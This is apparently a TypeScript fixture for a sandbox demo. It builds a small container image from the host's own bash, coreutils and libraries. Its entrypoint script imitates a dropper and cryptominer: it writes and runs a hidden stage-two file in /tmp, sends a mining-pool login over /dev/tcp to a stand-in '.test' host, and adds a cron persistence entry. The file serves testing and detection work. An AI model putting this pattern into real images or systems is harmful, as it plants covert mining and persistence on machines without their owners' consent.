/**
 * A tiny userland for the sandbox demo, copied from this machine's own programs (bash, coreutils
 * and the libraries `ldd` names), so the demo needs no download and no debootstrap. The scripts
 * laid on top only imitate a dropper and a miner: every address they reach is the sandbox's fake
 * internet.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, lstatSync, readFileSync, readlinkSync, realpathSync } from 'node:fs';
import type { FileSpec, ImageSpec } from '../fixtures/builder.js';

const PROGRAMS = ['bash', 'sh', 'cat', 'chmod', 'sleep', 'mkdir', 'getent', 'timeout', 'ls', 'rm'];

function which(name: string): string | null {
  for (const dir of ['/usr/bin', '/bin', '/usr/sbin', '/sbin'])
    if (existsSync(`${dir}/${name}`)) return `${dir}/${name}`;
  return null;
}

/** The shared libraries a program loads, as absolute host paths (the loader included). */
function librariesOf(path: string): string[] {
  let out = '';
  try {
    out = execFileSync('ldd', [path], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
  } catch {
    return [];
  }
  const libs: string[] = [];
  for (const line of out.split('\n')) {
    const m = /(?:=>\s*)?(\/\S+)\s+\(0x/.exec(line);
    if (m) libs.push(m[1]!);
  }
  return libs;
}

/** Whether this machine can build the demo userland (Linux with ldd and bash). */
export function hostUserlandAvailable(): boolean {
  return process.platform === 'linux' && which('bash') !== null && which('ldd') !== null;
}

/** File specs for the programs and every library they need, at the same paths as on the host. */
export function hostUserlandFiles(): FileSpec[] {
  const files = new Map<string, FileSpec>();
  const dirs = new Set<string>();
  const add = (hostPath: string, mode: number) => {
    const rel = hostPath.replace(/^\/+/, '');
    if (files.has(rel)) return;
    const real = realpathSync(hostPath);
    files.set(rel, { path: rel, content: readFileSync(real), mode });
    const parts = rel.split('/');
    for (let i = 1; i < parts.length; i++) dirs.add(parts.slice(0, i).join('/'));
  };
  for (const name of PROGRAMS) {
    const p = which(name);
    if (!p) continue;
    add(p, 0o755);
    for (const lib of librariesOf(p)) add(lib, 0o755);
  }
  // Merged-/usr hosts (Debian 12) have /bin -> usr/bin: scripts say #!/bin/bash, so keep the links.
  const links: FileSpec[] = [];
  for (const top of ['bin', 'sbin', 'lib64']) {
    const host = `/${top}`;
    if (existsSync(host) && lstatSync(host).isSymbolicLink() && !dirs.has(top))
      links.push({ path: top, type: 'symlink', target: readlinkSync(host) });
  }
  const dirSpecs: FileSpec[] = [...dirs]
    .sort()
    .map((d) => ({ path: `${d}/`, type: 'dir' as const, mode: 0o755 }));
  return [
    ...dirSpecs,
    ...links,
    ...files.values(),
    { path: 'etc/', type: 'dir', mode: 0o755 },
    { path: 'etc/passwd', content: 'root:x:0:0:root:/root:/bin/bash\n' },
    { path: 'etc/group', content: 'root:x:0:\n' },
    { path: 'etc/nsswitch.conf', content: 'passwd: files\ngroup: files\nhosts: files dns\n' },
    { path: 'tmp/', type: 'dir', mode: 0o1777 },
    { path: 'root/', type: 'dir', mode: 0o700 },
  ];
}

const DROPPER = `#!/bin/bash
# demo: what a run-time dropper and miner do, against the sandbox's fake internet only
printf '#!/bin/sh\\necho stage two\\n' > /tmp/.cache-update
chmod +x /tmp/.cache-update
/tmp/.cache-update
getent hosts pool.demo-mining.test > /dev/null
echo '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"demo","pass":"x","agent":"XMRig/6.21.0"}}' > /dev/tcp/pool.demo-mining.test/3333 || true
echo "* * * * * root /tmp/.cache-update" > /etc/cron.d/update 2>/dev/null || { mkdir -p /etc/cron.d && echo "* * * * * root /tmp/.cache-update" > /etc/cron.d/update; }
sleep 1
`;

/** An image whose payload only exists once it runs: written, made executable and started. */
export function sandboxDemoImage(): ImageSpec {
  return {
    layers: [
      { createdBy: 'COPY userland /', files: hostUserlandFiles() },
      {
        createdBy: 'COPY start.sh /opt/start.sh',
        files: [
          { path: 'opt/', type: 'dir', mode: 0o755 },
          { path: 'opt/start.sh', content: DROPPER, mode: 0o755 },
        ],
      },
    ],
    config: { Entrypoint: ['/opt/start.sh'], Env: ['PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin'] },
  };
}
